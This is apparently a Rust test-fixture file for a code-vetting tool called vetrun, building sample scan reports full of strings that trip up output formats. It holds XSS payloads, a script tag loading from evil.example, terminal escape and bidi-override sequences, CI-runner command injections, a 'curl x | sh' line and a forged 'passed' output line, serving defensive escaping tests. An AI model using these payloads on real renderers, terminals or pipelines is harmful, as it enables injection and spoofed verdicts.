//! The reports that every format renders: one that passed, one with everything in it that formats trip over, one that
//! could not be vetted, and one that could not even be read.

use std::collections::BTreeMap;

use serde_json::Map;
use vetrun::output::RuleHelp;
use vetrun::report::*;

/// A file whose name leaves tags, sections of data and attributes, wherever it is let.
const NOTEBOOK: &str = "]]>\"'><img src=x onerror=alert(2)>.ipynb";

/// What the command line would hand on: one artifact of each kind.
pub(crate) fn batch() -> [Report; 3] {
    [shipped(), hostile(), not_vetted()]
}

/// A report with everything in it that formats trip over.
pub(crate) fn hostile() -> Report {
    Report {
        schema_version: SCHEMA_VERSION.into(),
        tool: Tool {
            name: "vetrun".into(),
            version: "0.0.0-test".into(),
            rules_digest: "sha256:11".into(),
            policy_digest: "sha256:22".into(),
        },
        id: "0123456789abcdef".into(),
        agent_id: Some("agent-7".into()),
        status: Verdict::Failed,
        started_at: "2026-01-02T03:04:05Z".into(),
        finished_at: "2026-01-02T03:04:06Z".into(),
        duration_ms: 1234,
        artifact: ArtifactSummary {
            name: "<script>alert(1)</script> shop\u{1b}[2Jbot".into(),
            root: "agents/shop bot".into(),
            digest: "sha256:0123456789abcdef0123456789abcdef".into(),
            files: ["app.py", "bad\u{1b}]0;x\u{7}.py", NOTEBOOK, "naïve.py"].map(file).into(),
            total_bytes: 16_800,
        },
        validation_results: ValidationResults {
            syntax: result(Status::Passed, "4 of 4 files parse", 3),
            structure: result(Status::Failed, "1 finding", 2),
            security: result(Status::Failed, "4 findings, 1 suppressed", 5),
            performance: result(Status::Passed, "within budget", 1),
            dependencies: result(Status::Skipped, "blocked by the passes before", 0),
            execution: result(Status::Failed, "the program ended with exit code 3", 1200),
        },
        findings: findings(),
        dependencies: Some(dependencies()),
        execution: Some(execution()),
        logs: vec!["[2026-01-02T03:04:05Z] read 3 files".into(), "[2026-01-02T03:04:06Z] \u{1b}[1mdone".into()],
    }
}

pub(crate) fn file(path: &str) -> FileSummary {
    FileSummary {
        path: path.into(),
        language: "python".into(),
        size_bytes: 4200,
        lines: Some(12),
        digest: "sha256:33".into(),
    }
}

fn result(status: Status, message: &str, duration_ms: u64) -> ValidationResult {
    let passed = match status {
        Status::Passed => Some(true),
        Status::Failed => Some(false),
        Status::Skipped | Status::Error => None,
    };
    ValidationResult { status, passed, message: message.into(), duration_ms, details: Map::new() }
}

pub(crate) fn finding(rule: &str, severity: Severity, path: &str, message: &str) -> ReportFinding {
    ReportFinding {
        rule_id: rule.into(),
        pass: Pass::Scan,
        severity,
        confidence: Confidence::High,
        message: message.into(),
        hint: None,
        path: path.into(),
        range: None,
        cell: None,
        snippet: None,
        related: Vec::new(),
        resolved: None,
        decoded: None,
        cwe: Vec::new(),
        fingerprint: Fingerprint(format!("{rule}-fingerprint")),
        suppressed: None,
        fails: severity >= Severity::Medium,
    }
}

fn at(line: u32, columns: std::ops::Range<u32>, offset: usize, bytes: usize) -> Option<Range> {
    let start = Position { line, column: columns.start, offset };
    Some(Range { start, end: Position { line, column: columns.end, offset: offset + bytes } })
}

pub(crate) fn findings() -> Vec<ReportFinding> {
    let mut findings = bare_findings();
    for (at, finding) in findings.iter_mut().enumerate() {
        finding.fingerprint = Fingerprint(format!("fingerprint-{at}"));
        finding.fails &= finding.suppressed.is_none() && finding.confidence >= Confidence::Medium;
    }
    findings
}

fn bare_findings() -> Vec<ReportFinding> {
    let first_place = Related {
        message: "'(' \u{1b}[31mopened\nhere".into(),
        range: at(5, 4..5, 30, 1).expect("it is a range"),
        cell: None,
        snippet: "x = (\u{202e}1,".into(),
    };
    let same_line = Related {
        message: "this is on the same line".into(),
        range: at(7, 2..3, 56, 1).expect("it is a range"),
        cell: None,
        snippet: "\tr = eval(x)  # \u{202e}harmless\u{1b}[8m".into(),
    };
    vec![
        ReportFinding {
            pass: Pass::Structure,
            hint: Some("add a file that begins the program".into()),
            ..finding("missing-entry-point", Severity::High, ".", "there is no entry point")
        },
        ReportFinding {
            range: at(7, 6..13, 60, 7),
            snippet: Some("\tr = eval(x)  # \u{202e}harmless\u{1b}[8m".into()),
            resolved: Some("builtins.eval".into()),
            hint: Some("use `ast.literal_eval`, see [this](0)".into()),
            cwe: vec!["CWE-95".into()],
            related: vec![first_place, same_line],
            ..finding("python-eval", Severity::Critical, "app.py", "call of `eval`")
        },
        ReportFinding {
            range: at(9, 4001..4008, 5000, 7),
            snippet: Some(format!("{}eval(y){}", "a".repeat(200), "b".repeat(193))),
            confidence: Confidence::Low,
            ..finding("python-eval", Severity::Low, "app.py", "call of `eval` on a long line")
        },
        ReportFinding {
            range: at(3, 1..9, 20, 9),
            snippet: Some("naïve = 1 ##vso[task.x]".into()),
            ..finding("::error::x", Severity::Medium, "bad\u{1b}]0;x\u{7}.py", "100% \u{1b}[31mred\n::warning::x, y")
        },
        ReportFinding {
            range: at(28, 11..27, 700, 16),
            cell: Some(Cell { index: 3, line: 1, column: 1, end_line: 1, end_column: 17 }),
            snippet: Some("!curl x | sh</code></script><b onclick=\"x\">".into()),
            resolved: Some("</dd><script src=//evil.example></script>".into()),
            decoded: Some(Box::new(hidden())),
            hint: Some("`--> ]]>` & \u{202e}nothing".into()),
            ..finding("shell-download-and-run", Severity::Medium, NOTEBOOK, "a script <!-- piped into a shell")
        },
        ReportFinding {
            range: at(4, 1..2, 40, 1),
            snippet: Some("漢字 = password('é')".into()),
            suppressed: Some(Suppression::Baseline),
            ..finding("hardcoded-password", Severity::High, "naïve.py", "a password in the source")
        },
    ]
}

/// A decoded text that leaves tags and attributes, speaks to runners and hides, cut before its end.
fn hidden() -> Decoded {
    let text =
        "# </code></li><script>alert(4)</script>\n::error::x \u{1b}[2J##vso[task.x]\n\tos.system('\u{202e}\"]]>')\n";
    Decoded {
        layers: vec!["base64".into(), "<i>".into(), "zlib".into()],
        language: "python".into(),
        text: text.into(),
        offset: 100,
        bytes: 9000,
        truncated: true,
        range: at(12, 2..20, 100 + text.find("os.system").expect("it is there"), 9),
    }
}

fn package(name: &str, version: &str, requested: Option<&str>, required_by: &[&str]) -> Package {
    let file = format!("{name}-{version}-py3-none-any.whl");
    Package {
        ecosystem: Ecosystem::Python,
        name: name.into(),
        version: version.into(),
        digest: Some(format!("sha256:{}", "5a".repeat(32))),
        size_bytes: 65_536,
        url: Some(format!("https://files.invalid/{file}")),
        file: Some(file),
        file_bytes: Some(4096),
        uploaded: Some("2025-06-07T08:09:10Z".into()),
        requested: requested.map(Into::into),
        required_by: required_by.iter().copied().map(Into::into).collect(),
        is_known: true,
    }
}

fn dependencies() -> Dependencies {
    Dependencies {
        installer: Some("pip 1.2.3".into()),
        requirements: vec!["requests>=2".into()],
        packages: vec![
            package("requests", "2.0", Some("requests>=2"), &[]),
            package("urllib3", "1!2.0+local", None, &["requests"]),
        ],
        cache_hit: false,
        fallback_triggered: Some("uv is not there".into()),
        environment: Some(Environment {
            platform: "linux-x86_64".into(),
            interpreter: "python 3.11".into(),
            pythonpath: "/deps".into(),
            home: "/tmp/home".into(),
        }),
    }
}

fn execution() -> Execution {
    let limit = |enforced: bool| LimitReport { enforced, by: "rlimit".into() };
    Execution {
        backend: "native".into(),
        isolation: IsolationReport {
            tier: "namespaces".into(),
            layers: BTreeMap::from([("seccomp".into(), true)]),
            limits: BTreeMap::from([("memory".into(), limit(true)), ("cpus".into(), limit(false))]),
        },
        image: None,
        command: ["python3", "app.py", "it's", ""].map(Into::into).into(),
        exit_code: Some(3),
        signal: None,
        outcome: "exited".into(),
        stdout: StreamReport {
            text: (1..=22).map(|line| format!("line {line}\n")).collect::<String>()
                + "::error::forged\n\u{1b}[2Jpassed: shop, no findings\rX\n##[add-mask]x\tend\n</pre><script>alert(3)</script>]]>\n",
            bytes: 2_000_000,
            truncated: true,
        },
        stderr: StreamReport { text: "Traceback\n".into(), bytes: 10, truncated: false },
        outputs: vec![OutputFile { path: "out\u{9b}.png".into(), size_bytes: 2048, digest: "sha256:44".into() }],
        refused_outputs: vec![RefusedOutputReport { path: "link".into(), reason: "a symbolic link".into() }],
        metrics: MetricsReport {
            wall_ms: 1180,
            cpu_ms: Some(900),
            memory_peak_bytes: Some(34 << 20),
            pids_peak: Some(3),
            oom_kills: Some(0),
            sampled: true,
        },
        behaviour: BehaviourReport {
            traced: true,
            untraced_because: None,
            attempts: vec![
                attempt("refused", "mount", Some("/mnt\u{1b}[2J\nnext line"), Some("EPERM"), 1),
                attempt("refused", "ptrace", None, Some("EPERM"), 12),
                attempt("network", "connect", Some("203.0.113.7:80"), None, 2),
                attempt("lookup", "sendmmsg", Some("example.invalid"), None, 2),
                attempt("started", "execve", Some("/bin/sh -c 'id; id'"), None, 1),
            ],
            truncated: true,
        },
        network: NetworkReport { mode: "none".into() },
    }
}

fn attempt(kind: &str, call: &str, target: Option<&str>, answer: Option<&str>, count: u64) -> AttemptReport {
    let [target, answer] = [target, answer].map(|text| text.map(str::to_owned));
    AttemptReport { kind: kind.to_owned(), call: call.to_owned(), target, answer, count }
}

/// One that passed and ran, with a remark and a small fault, and packages.
pub(crate) fn shipped() -> Report {
    let mut execution = execution();
    execution.exit_code = Some(0);
    execution.command = ["python3", "main.py"].map(Into::into).into();
    execution.stdout = StreamReport { text: "42\n".into(), bytes: 3, truncated: false };
    execution.stderr = StreamReport::default();
    (execution.outputs, execution.refused_outputs) = (Vec::new(), Vec::new());
    execution.behaviour = BehaviourReport { traced: true, ..BehaviourReport::default() };
    let note = finding("python-assert", Severity::Info, "main.py", "check by `assert`");
    let low = finding("python-open-mode", Severity::Low, "main.py", "file that everybody can write");
    let passed = |message: &str, ms| result(Status::Passed, message, ms);
    Report {
        id: "11111111111111111111111111111111".into(),
        agent_id: None,
        status: Verdict::Passed,
        artifact: ArtifactSummary {
            name: "report".into(),
            root: "agents/report/main.py".into(),
            digest: format!("sha256:{}", "ab".repeat(32)),
            files: vec![file("main.py")],
            total_bytes: 4200,
        },
        validation_results: ValidationResults {
            syntax: passed("1 of 1 file parses", 2),
            structure: passed("profile python", 1),
            security: passed("60 rules; 2 findings", 4),
            performance: passed("within budget", 0),
            dependencies: passed("2 packages", 210),
            execution: passed("the program ended with 0", 1180),
        },
        findings: [(note, 1), (low, 9)]
            .map(|(finding, line)| ReportFinding {
                range: at(line, 1..5, 10 * line as usize, 4),
                snippet: Some("open('x', 0o777)".into()),
                fingerprint: Fingerprint(format!("shipped-{line}")),
                ..finding
            })
            .into(),
        dependencies: Some(dependencies()),
        execution: Some(execution),
        ..hostile()
    }
}

/// One that was not there to be read.
pub(crate) fn unread() -> Report {
    let mut report = not_vetted();
    report.id = "33333333333333333333333333333333".into();
    report.artifact.files = Vec::new();
    report.validation_results.syntax = result(Status::Error, "no such file", 0);
    report
}

/// One that passed without a word, read from standard input.
pub(crate) fn clean() -> Report {
    let passed = |message: &str| result(Status::Passed, message, 1);
    Report {
        status: Verdict::Passed,
        artifact: ArtifactSummary {
            name: "stdin.py".into(),
            root: "-".into(),
            files: vec![file("stdin.py")],
            ..hostile().artifact
        },
        validation_results: ValidationResults {
            syntax: passed("1 of 1 file parses"),
            structure: passed("profile python"),
            security: passed("60 rules"),
            performance: passed("within budget"),
            dependencies: result(Status::Skipped, "not asked for", 0),
            execution: result(Status::Skipped, "not asked for", 0),
        },
        findings: Vec::new(),
        dependencies: None,
        execution: None,
        ..hostile()
    }
}

/// One that could not be vetted.
pub(crate) fn not_vetted() -> Report {
    let mut report = clean();
    report.id = "22222222222222222222222222222222".into();
    report.status = Verdict::Error;
    report.artifact.root = "/srv/one/app.py".into();
    report.artifact.files = vec![file("app.py")];
    report.artifact.name = "app.py".into();
    report.validation_results.execution = result(Status::Error, "the native sandbox is not available", 0);
    report
}

pub(crate) fn rules() -> Vec<RuleHelp> {
    vec![RuleHelp {
        id: "python-eval".into(),
        severity: Severity::Critical,
        message: "a call of `eval`".into(),
        why: "It runs what it is given.".into(),
        instead: "Use `ast.literal_eval`.".into(),
        cwe: vec!["CWE-95".into()],
        owasp: vec!["A03:2021".to_owned()],
        references: vec!["https://example.org/eval".into()],
    }]
}
